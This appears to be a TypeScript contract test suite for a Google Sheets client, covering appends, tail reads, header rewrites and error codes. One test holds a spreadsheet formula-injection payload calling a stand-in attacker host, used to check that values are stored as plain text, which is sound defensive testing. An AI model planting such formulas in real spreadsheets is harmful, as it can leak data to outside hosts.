import type { SheetsClient } from '../sheets-client';
import { SheetsConnectorError, type SheetsErrorCode } from '../sheets-connector-error';

/**
 * What a test needs besides the client to drive an adapter's backend into each state: an
 * emulator does all of it; a recorded or real API does what it can (see rule 13 in STYLE.md).
 */
export interface SheetsClientHarness {
  readonly client: SheetsClient;
  /** A new spreadsheet, shared with the client's account, with one empty tab "Sheet1". */
  newSpreadsheet(): Promise<string>;
  /** A client for the same backend with fresh credentials (no cached access token). */
  freshClient(): Promise<SheetsClient>;
  /** Requests the backend received so far, by every account. */
  requestCount(): Promise<number>;
  /** Access tokens the token endpoint granted so far. */
  tokensGranted(): Promise<number>;
  spendWriteQuota(options: { retryAfterSeconds?: number }): Promise<void>;
  failNextRequests(count: number, status: 500 | 503): Promise<void>;
  dropConnections(): Promise<void>;
  delayResponses(ms: number): Promise<void>;
  revokeAccess(spreadsheetId: string): Promise<void>;
  deleteSpreadsheet(spreadsheetId: string): Promise<void>;
  disableAccount(): Promise<void>;
  limitCellsPerSpreadsheet(cells: number): Promise<void>;
  /** Back to a healthy backend with room in every quota (after each test). */
  heal(): Promise<void>;
}

async function failure(promise: Promise<unknown>): Promise<SheetsConnectorError> {
  try {
    await promise;
  } catch (error) {
    if (error instanceof SheetsConnectorError) return error;
    throw new Error(`expected a SheetsConnectorError, got ${String(error)}`, { cause: error });
  }
  throw new Error('expected the call to fail');
}

function expectKind(
  error: SheetsConnectorError,
  code: SheetsErrorCode,
  kind: 'retriable' | 'permanent' | 'neither',
) {
  expect({ code: error.code, retriable: error.retriable, permanent: error.permanent }).toEqual({
    code,
    retriable: kind === 'retriable',
    permanent: kind === 'permanent',
  });
}

const row = (n: number, width = 8) => [
  `response-${n}`,
  ...Array.from({ length: width - 1 }, (_, c) => `answer ${n}.${c}`),
];

/** The SheetsClient contract: every adapter runs this suite against its backend. */
export function sheetsClientContract(adapter: string, harness: () => SheetsClientHarness): void {
  describe(`SheetsClient contract: ${adapter}`, () => {
    let client: SheetsClient;
    let spreadsheetId: string;

    beforeEach(async () => {
      client = harness().client;
      spreadsheetId = await harness().newSpreadsheet();
    });
    afterEach(() => harness().heal());

    it('describes a spreadsheet: its title and every tab with id, position and grid size', async () => {
      const info = await client.getSpreadsheet(spreadsheetId);
      expect(info.spreadsheetId).toBe(spreadsheetId);
      expect(info.sheets).toEqual([
        {
          sheetId: expect.any(Number) as number,
          title: 'Sheet1',
          index: 0,
          rowCount: 1000,
          columnCount: 26,
        },
      ]);
    });

    it('appends many rows per request below the header, in order, and says where they landed', async () => {
      await client.writeHeader(spreadsheetId, 'Sheet1', [
        'responseId',
        'a',
        'b',
        'c',
        'd',
        'e',
        'f',
        'g',
      ]);
      const first = await client.append(
        spreadsheetId,
        'Sheet1',
        Array.from({ length: 500 }, (_, i) => row(i)),
      );
      const second = await client.append(
        spreadsheetId,
        'Sheet1',
        Array.from({ length: 500 }, (_, i) => row(500 + i)),
      );
      expect(first).toMatchObject({
        firstRow: 2,
        lastRow: 501,
        updatedRows: 500,
        updatedCells: 4000,
      });
      expect(second).toMatchObject({ firstRow: 502, lastRow: 1001, updatedRows: 500 });
      const rows = await client.readRange(spreadsheetId, {
        sheet: 'Sheet1',
        fromRow: 1,
        toRow: 1001,
      });
      expect(rows.map((r) => r.values[0])).toEqual([
        'responseId',
        ...Array.from({ length: 1000 }, (_, i) => `response-${i}`),
      ]);
      expect(rows[1000]).toEqual({ rowNumber: 1001, values: row(999) });
    });

    it('reads the tail of a tab: the last rows up to the last written one, with their row numbers', async () => {
      await client.writeHeader(spreadsheetId, 'Sheet1', ['responseId']);
      await client.append(
        spreadsheetId,
        'Sheet1',
        Array.from({ length: 30 }, (_, i) => row(i, 2)),
      );
      const tail = await client.readTail(spreadsheetId, 'Sheet1', 3);
      expect(tail).toEqual([
        { rowNumber: 29, values: row(27, 2) },
        { rowNumber: 30, values: row(28, 2) },
        { rowNumber: 31, values: row(29, 2) },
      ]);
      expect(await client.readTail(spreadsheetId, 'Sheet1', 100)).toHaveLength(31);
    });

    it('finds the tail below thousands of empty grid rows and returns nothing for an empty tab', async () => {
      await client.addSheet(spreadsheetId, 'Tall', { rowCount: 6000, columnCount: 3 });
      expect(await client.readTail(spreadsheetId, 'Tall', 5)).toEqual([]);
      await client.append(spreadsheetId, 'Tall', [row(1, 2), row(2, 2)]);
      expect(await client.readTail(spreadsheetId, 'Tall', 1)).toEqual([
        { rowNumber: 2, values: row(2, 2) },
      ]);
    });

    it('stores values as sent (RAW): an answer starting with "=" arrives as text, never as a formula', async () => {
      const injection = '=IMPORTXML("https://attacker.example/x", "//a")';
      await client.append(spreadsheetId, 'Sheet1', [['r1', injection, '+1', '0042', 42, true]]);
      const [stored] = await client.readRange(spreadsheetId, {
        sheet: 'Sheet1',
        fromRow: 1,
        toRow: 1,
      });
      expect(stored?.values).toEqual(['r1', injection, '+1', '0042', 42, true]);
    });

    it('rewrites only the header row: a wider header leaves every row below as it was', async () => {
      await client.writeHeader(spreadsheetId, 'Sheet1', ['responseId', 'q1']);
      await client.append(spreadsheetId, 'Sheet1', [
        ['r1', 'x'],
        ['r2', 'y'],
      ]);
      await client.writeHeader(spreadsheetId, 'Sheet1', ['responseId', 'Question one', 'q2']);
      const rows = await client.readRange(spreadsheetId, { sheet: 'Sheet1', fromRow: 1, toRow: 3 });
      expect(rows.map((r) => r.values)).toEqual([
        ['responseId', 'Question one', 'q2'],
        ['r1', 'x'],
        ['r2', 'y'],
      ]);
    });

    it('adds a tab with the grid asked for, and refuses a title already taken as sheet_already_exists', async () => {
      const added = await client.addSheet(spreadsheetId, "Responses (2) — it's", {
        rowCount: 10,
        columnCount: 4,
      });
      expect(added).toMatchObject({
        title: "Responses (2) — it's",
        index: 1,
        rowCount: 10,
        columnCount: 4,
      });
      await client.append(spreadsheetId, added.title, [['r1']]);
      expect(await client.readTail(spreadsheetId, added.title, 1)).toEqual([
        { rowNumber: 1, values: ['r1'] },
      ]);
      expectKind(
        await failure(client.addSheet(spreadsheetId, "responses (2) — IT'S")),
        'sheet_already_exists',
        'neither',
      );
    });

    it('reports a tab that does not exist as sheet_not_found, permanent', async () => {
      expectKind(
        await failure(client.append(spreadsheetId, 'Gone', [['r1']])),
        'sheet_not_found',
        'permanent',
      );
      expectKind(
        await failure(client.readTail(spreadsheetId, 'Gone', 1)),
        'sheet_not_found',
        'permanent',
      );
    });

    it('reports a spent write quota as rate_limited, retriable, with the Retry-After Google sent', async () => {
      await harness().spendWriteQuota({});
      const limited = await failure(client.append(spreadsheetId, 'Sheet1', [['r1']]));
      expectKind(limited, 'rate_limited', 'retriable');
      expect(limited.httpStatus).toBe(429);
      expect(limited.retryAfterMs).toBeUndefined();
      await harness().spendWriteQuota({ retryAfterSeconds: 17 });
      expect((await failure(client.writeHeader(spreadsheetId, 'Sheet1', ['x']))).retryAfterMs).toBe(
        17_000,
      );
    });

    it('reports 5xx as unavailable, retriable, and never retries by itself', async () => {
      const before = await harness().requestCount();
      await harness().failNextRequests(1, 503);
      expectKind(await failure(client.getSpreadsheet(spreadsheetId)), 'unavailable', 'retriable');
      await harness().failNextRequests(1, 500);
      expectKind(
        await failure(client.append(spreadsheetId, 'Sheet1', [['r1']])),
        'unavailable',
        'retriable',
      );
      expect((await harness().requestCount()) - before).toBe(2);
      expect(await client.getSpreadsheet(spreadsheetId)).toMatchObject({ spreadsheetId });
    });

    it('reports a dropped connection as network, retriable', async () => {
      await harness().dropConnections();
      expectKind(await failure(client.getSpreadsheet(spreadsheetId)), 'network', 'retriable');
    });

    it('reports an answer slower than the timeout as timeout, retriable', async () => {
      await harness().delayResponses(2_500);
      expectKind(await failure(client.getSpreadsheet(spreadsheetId)), 'timeout', 'retriable');
    });

    it('reports a deleted spreadsheet as spreadsheet_not_found, permanent', async () => {
      await harness().deleteSpreadsheet(spreadsheetId);
      const gone = await failure(client.append(spreadsheetId, 'Sheet1', [['r1']]));
      expectKind(gone, 'spreadsheet_not_found', 'permanent');
      expect(gone.httpStatus).toBe(404);
    });

    it('reports revoked sharing as access_denied, permanent', async () => {
      await harness().revokeAccess(spreadsheetId);
      const denied = await failure(client.getSpreadsheet(spreadsheetId));
      expectKind(denied, 'access_denied', 'permanent');
      expect(denied.httpStatus).toBe(403);
    });

    it('reports credentials Google no longer accepts as invalid_credentials, permanent, with or without a cached token', async () => {
      await client.getSpreadsheet(spreadsheetId);
      await harness().disableAccount();
      expectKind(
        await failure(client.getSpreadsheet(spreadsheetId)),
        'invalid_credentials',
        'permanent',
      );
      const fresh = await harness().freshClient();
      expectKind(
        await failure(fresh.getSpreadsheet(spreadsheetId)),
        'invalid_credentials',
        'permanent',
      );
    });

    it('refuses to pass the spreadsheet’s cell limit as cell_limit_exceeded, neither retriable nor permanent', async () => {
      await harness().limitCellsPerSpreadsheet(26_000 + 26 * 5);
      await client.append(
        spreadsheetId,
        'Sheet1',
        Array.from({ length: 5 }, (_, i) => row(i, 2)),
      );
      const full = await failure(client.append(spreadsheetId, 'Sheet1', [row(5, 2)]));
      expectKind(full, 'cell_limit_exceeded', 'neither');
      expect(full.httpStatus).toBe(400);
      expectKind(
        await failure(client.addSheet(spreadsheetId, 'More')),
        'cell_limit_exceeded',
        'neither',
      );
    });

    it('refuses a cell over 50,000 characters as cell_too_long', async () => {
      expectKind(
        await failure(client.append(spreadsheetId, 'Sheet1', [['r1', 'x'.repeat(50_001)]])),
        'cell_too_long',
        'neither',
      );
      await client.append(spreadsheetId, 'Sheet1', [['r1', 'x'.repeat(50_000)]]);
    });

    it('signs in through the token endpoint with the key file’s account and reuses the token', async () => {
      const fresh = await harness().freshClient();
      const before = await harness().tokensGranted();
      await fresh.getSpreadsheet(spreadsheetId);
      await fresh.readTail(spreadsheetId, 'Sheet1', 1);
      expect((await harness().tokensGranted()) - before).toBe(1);
    });
  });
}
